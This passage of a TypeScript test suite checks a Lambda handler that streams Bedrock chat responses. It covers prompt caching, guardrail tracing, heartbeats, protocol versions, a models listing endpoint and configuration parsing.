    assert.equal(result.headers['content-type'], 'text/plain; charset=utf-8');
    assert.equal(result.body, 'visible');
  });

  it('prompt caching: cache points after the system prompt, the tools and the turn before the newest; cache usage in end', async () => {
    const messages = [
      { role: 'user', content: 'a' },
      { role: 'assistant', content: 'b' },
      { role: 'user', content: 'c' },
    ];
    const { result, calls } = await run(async function* () {
      yield begin;
      yield delta('ok');
      yield stop();
      yield { metadata: { usage: { inputTokens: 5, outputTokens: 2, totalTokens: 2507, cacheReadInputTokens: 2000, cacheWriteInputTokens: 500 }, metrics: { latencyMs: 9 } } };
    }, event(v2({ messages, system: 'sys', tools: [tool] })));
    const input = calls[0].input;
    const cachePoint = { cachePoint: { type: 'default' } };
    assert.deepEqual(input.system, [{ text: 'sys' }, cachePoint]);
    assert.deepEqual(input.toolConfig?.tools?.at(-1), cachePoint);
    assert.deepEqual(input.messages?.[1].content, [{ text: 'b' }, cachePoint]);
    assert.deepEqual(input.messages?.[2].content, [{ text: 'c' }]);
    assert.deepEqual(sseEvents(result.body).at(-1), { type: 'end', stopReason: 'end_turn', usage: { inputTokens: 5, outputTokens: 2, cacheReadInputTokens: 2000, cacheWriteInputTokens: 500 }, latencyMs: 9 });
  });

  it('no cache points with cache: false, for a model without caching, or for a v1 request', async () => {
    const body = { messages: [{ role: 'user', content: 'a' }, { role: 'assistant', content: 'b' }, { role: 'user', content: 'c' }], system: 'sys' };
    for (const ev of [event(v2({ ...body, cache: false })), event(v2({ ...body, modelId: OTHER })), event(body)]) {
      const { calls } = await run(answer('ok'), ev);
      assert.doesNotMatch(JSON.stringify(calls[0].input), /cachePoint/);
    }
  });

  it('guardrail: guardrailConfig with trace; an intervention is a guardrail event naming the policies, then end guardrail_intervened', async () => {
    const guardrail = { id: 'gr-abc123', version: '3', streamMode: 'async' as const };
    const { result, calls } = await run(async function* () {
      yield begin;
      yield delta('Sorry, I cannot help with that.');
      yield stop('guardrail_intervened');
      yield {
        metadata: {
          usage: { inputTokens: 1, outputTokens: 1, totalTokens: 2 },
          metrics: { latencyMs: 1 },
          trace: {
            guardrail: {
              inputAssessment: {
                'gr-abc123': {
                  topicPolicy: { topics: [{ name: 'Investment advice', type: 'DENY', action: 'BLOCKED' }] },
                  wordPolicy: { customWords: [{ match: 'SECRET word', action: 'BLOCKED' }], managedWordLists: [] },
                  contentPolicy: { filters: [{ type: 'VIOLENCE', confidence: 'HIGH', action: 'BLOCKED' }, { type: 'HATE', confidence: 'NONE', action: 'NONE' }] },
                },
              },
            },
          },
        },
      } as ConverseStreamOutput;
    }, event(v2()), { cfg: { guardrail } });
    assert.deepEqual(calls[0].input.guardrailConfig, { guardrailIdentifier: 'gr-abc123', guardrailVersion: '3', trace: 'enabled', streamProcessingMode: 'async' });
    const events = sseEvents(result.body);
    assert.deepEqual(events.slice(-2), [
      { type: 'guardrail', action: 'INTERVENED', policies: ['topic:Investment advice', 'content:VIOLENCE', 'word:custom'] },
      { type: 'end', stopReason: 'guardrail_intervened', usage: { inputTokens: 1, outputTokens: 1 }, latencyMs: 1 },
    ]);
    assert.doesNotMatch(result.body, /SECRET/);
  });

  it('every stop reason passes through', async () => {
    for (const reason of ['max_tokens', 'content_filtered', 'model_context_window_exceeded', 'stop_sequence']) {
      const { result } = await run(async function* () {
        yield begin;
        yield delta('x');
        yield stop(reason);
      }, event(v2()));
      assert.equal((sseEvents(result.body).at(-1) as { stopReason: string }).stopReason, reason);
    }
  });

  it('the status is committed at messageStart: an error before any text is in-band (v1 still gets the HTTP status)', async () => {
    const script: Script = async function* () {
      yield begin;
      throw named('throttlingException', 'Too many tokens');
    };
    const { result } = await run(script, event(v2()));
    assert.equal(result.status, 200);
    assert.deepEqual(sseEvents(result.body), [
      { type: 'start', id: 'req-1', model: MODEL, protocol: 2 },
      { type: 'error', code: 'ThrottlingException', message: 'Too many tokens', retryable: true },
    ]);
    assert.equal((await run(script, event({ prompt: 'hi' }))).result.status, 429);
  });

  it('heartbeat: ": ping" after HEARTBEAT_MS without upstream output, SSE only, once open', async () => {
    const silentThenText: Script = async function* () {
      yield begin;
      await new Promise((r) => setTimeout(r, 190));
      yield delta('late');
      yield stop();
    };
    const { result } = await run(silentThenText, event(v2()), { cfg: { heartbeatMs: 50 } });
    const pings = result.body.split(HEARTBEAT_COMMENT).length - 1;
    assert.ok(pings >= 2 && pings <= 4, `${pings} heartbeats in 190 ms at 50 ms`);
    assert.ok(result.body.indexOf(HEARTBEAT_COMMENT) > result.body.indexOf('event: start'), 'after start');
    assert.ok(result.body.lastIndexOf(HEARTBEAT_COMMENT) < result.body.indexOf('event: delta'), 'none after the text');
    const plain = await run(silentThenText, event(v2(), '*/*'), { cfg: { heartbeatMs: 50 } });
    assert.equal(plain.result.body, 'late');
    // Upstream output within the interval resets the countdown: no heartbeat.
    const busy = await run(async function* () {
      yield begin;
      for (let i = 0; i < 5; i++) {
        await new Promise((r) => setTimeout(r, 25));
        yield delta(`${i}`);
      }
      yield stop();
    }, event(v2()), { cfg: { heartbeatMs: 60 } });
    assert.ok(!busy.result.body.includes(HEARTBEAT_COMMENT));
  });

  it('v1 requests see none of it: no protocol in start, no reasoning events, no cache usage', async () => {
    const { result } = await run(async function* () {
      yield begin;
      yield reasoningDelta({ text: 'built-in reasoning' });
      yield delta('ok');
      yield stop();
      yield { metadata: { usage: { inputTokens: 1, outputTokens: 1, totalTokens: 2, cacheReadInputTokens: 9 }, metrics: { latencyMs: 1 } } };
    }, event({ prompt: 'hi' }));
    assert.deepEqual(sseEvents(result.body), [
      { type: 'start', id: 'req-1', model: MODEL },
      { type: 'delta', text: 'ok' },
      { type: 'end', stopReason: 'end_turn', usage: { inputTokens: 1, outputTokens: 1 }, latencyMs: 1 },
    ]);
  });

  it('a v2 request that breaks a rule → 400 before Bedrock, without quoting it', async () => {
    const { result, calls } = await run(answer('never'), event(v2({ tools: [{ ...tool, name: 'SECRET name!' }] })));
    assert.equal(result.status, 400);
    assert.match(JSON.parse(result.body).error.message, /tools\[0\]\.name/);
    assert.doesNotMatch(result.body, /SECRET/);
    assert.equal(calls.length, 0);
  });
});

describe('infra/lambda handler: GET …/models', () => {
  const get = (path = '/prod/models', over: Partial<ChatEvent> = {}): ChatEvent => ({
    body: null,
    isBase64Encoded: false,
    headers: {},
    httpMethod: 'GET',
    path,
    resource: '/models',
    ...over,
  });
  const UNKNOWN = 'us.example.brand-new-model-v1:0';

  it('answers the allow-list from the catalogue, limits, no prices or guardrail unless configured; Bedrock never called', async () => {
    const { result, calls } = await run(answer('never'), get(), { cfg: { allowedModelIds: [MODEL, OTHER, UNKNOWN] } });
    assert.equal(result.status, 200);
    assert.equal(result.headers['content-type'], 'application/json');
    assert.equal(result.headers['cache-control'], 'no-store');
    assert.equal(calls.length, 0);
    assert.deepEqual(JSON.parse(result.body), {
      protocol: 2,
      defaultModel: MODEL,
      models: [
        { id: MODEL, name: 'Claude Sonnet 4', contextTokens: 200000, maxOutputTokens: 64000, reasoning: true, tools: true, caching: true },
        { id: OTHER, name: 'Claude 3 Haiku', contextTokens: 200000, maxOutputTokens: 4096, reasoning: false, tools: true, caching: false },
        { id: UNKNOWN, name: 'us.example.brand-new-model-v1:0', contextTokens: 32000, maxOutputTokens: 4096, reasoning: false, tools: false, caching: false },
      ],
      limits: { maxBodyBytes: 2048, maxMessages: 200, maxTokens: 1000 },
    });
  });

  it('with MODEL_PRICES and a guardrail: prices on the priced models only, and the guardrail id and version', async () => {
    const cfg = readConfig({
      ALLOWED_MODEL_IDS: `${MODEL},${OTHER}`,
      MODEL_PRICES: JSON.stringify({ [MODEL]: { inputPerMTok: 3, outputPerMTok: 15, cacheReadPerMTok: 0.3, cacheWritePerMTok: 3.75 } }),
      GUARDRAIL_ID: 'gr-abc123',
      GUARDRAIL_VERSION: '2',
    });
    const { result } = await run(answer('never'), get('/models', { resource: undefined }), { cfg });
    const body = JSON.parse(result.body) as ModelsResponse;
    assert.deepEqual(body.models[0].prices, { inputPerMTok: 3, outputPerMTok: 15, cacheReadPerMTok: 0.3, cacheWritePerMTok: 3.75 });
    assert.equal('prices' in body.models[1], false);
    assert.deepEqual(body.guardrail, { id: 'gr-abc123', version: '2' });
  });

  it('POST to …/models or GET elsewhere is not the models route', async () => {
    const post = await run(answer('ok'), { ...event({ prompt: 'hi' }), httpMethod: 'POST', path: '/prod/models' });
    assert.equal(post.calls.length, 1);
    const chat = await run(answer('ok'), get('/prod/chat', { resource: '/chat' }));
    assert.equal(chat.result.status, 400);
  });

  it('matches inference-profile ids and ARNs by their model part', () => {
    assert.equal(lookupModel('eu.anthropic.claude-sonnet-4-5-20250929-v1:0').name, 'Claude Sonnet 4.5');
    assert.equal(lookupModel('global.anthropic.claude-haiku-4-5-20251001-v1:0').reasoningControl, 'thinking');
    assert.equal(lookupModel('arn:aws:bedrock:us-east-1:123456789012:inference-profile/us.amazon.nova-pro-v1:0').name, 'Amazon Nova Pro');
    assert.deepEqual(lookupModel('amazon.nova-pro-v1:0').cachePointsIn, ['system', 'messages']);
    assert.equal(lookupModel('xamazon.nova-pro-v1:0').name, 'xamazon.nova-pro-v1:0', 'only whole dotted prefixes');
  });
});

describe('infra/lambda config v2', () => {
  it('reads MODEL_PRICES, the guardrail (sync by default) and HEARTBEAT_MS; refuses malformed ones', () => {
    const c = readConfig({ MODEL_PRICES: '{"m":{"inputPerMTok":1,"outputPerMTok":2}}', GUARDRAIL_ID: 'g1', HEARTBEAT_MS: '500' });
    assert.deepEqual(c.modelPrices, { m: { inputPerMTok: 1, outputPerMTok: 2 } });
    assert.deepEqual(c.guardrail, { id: 'g1', version: 'DRAFT', streamMode: 'sync' });
    assert.equal(c.heartbeatMs, 500);
    assert.equal(readConfig({}).heartbeatMs, DEFAULT_HEARTBEAT_MS);
    assert.equal(readConfig({}).guardrail, undefined);
    assert.equal(readConfig({ GUARDRAIL_ID: 'g', GUARDRAIL_STREAM_MODE: 'async' }).guardrail?.streamMode, 'async');
    assert.throws(() => readConfig({ GUARDRAIL_ID: 'g', GUARDRAIL_STREAM_MODE: 'later' }), /GUARDRAIL_STREAM_MODE/);
    assert.throws(() => readConfig({ MODEL_PRICES: 'cheap' }), /MODEL_PRICES must be JSON/);
    assert.throws(() => readConfig({ MODEL_PRICES: '{"m":{"inputPerMTok":-1,"outputPerMTok":2}}' }), /inputPerMTok/);
    assert.throws(() => readConfig({ HEARTBEAT_MS: '0' }), /HEARTBEAT_MS/);
  });
});
